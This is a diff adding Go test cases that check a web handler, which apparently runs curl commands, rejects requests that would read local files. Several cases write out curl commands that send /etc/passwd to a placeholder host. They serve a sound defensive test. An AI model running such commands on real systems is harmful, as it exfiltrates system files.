@@ -80,6 +80,11 @@ func TestPage(t *testing.T) {
 		{"nothing", map[string]string{"env": "dev"}, 422, []string{"there is no request"}},
 		{"unknown environment", map[string]string{"request": request, "env": "nowhere"}, 422, []string{"there is no environment"}},
 		{"a file that curl would read", map[string]string{"request": "curl -d @/etc/passwd http://x/", "env": "dev"}, 422, []string{"not opened here"}},
+		{"a file of headers", map[string]string{"request": "curl -H @/etc/passwd http://x/", "env": "dev"}, 422, []string{"not opened here"}},
+		{"a file to upload", map[string]string{"request": "curl -T /etc/passwd http://x/", "env": "dev"}, 422, []string{"not opened here"}},
+		{"a file that the shell would read", map[string]string{"request": "cat /etc/passwd | curl -d @- http://x/", "env": "dev"}, 422, []string{"not opened here"}},
+		{"a file that cmd.exe would read", map[string]string{"request": "C:\\>curl -d @- http://x/ < /etc/passwd", "env": "dev"}, 422, []string{"not opened here"}},
+		{"standard input", map[string]string{"request": "curl -d @- http://x/", "env": "dev"}, 422, []string{"standard input"}},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			r, err := form(t, address, tt.fields)
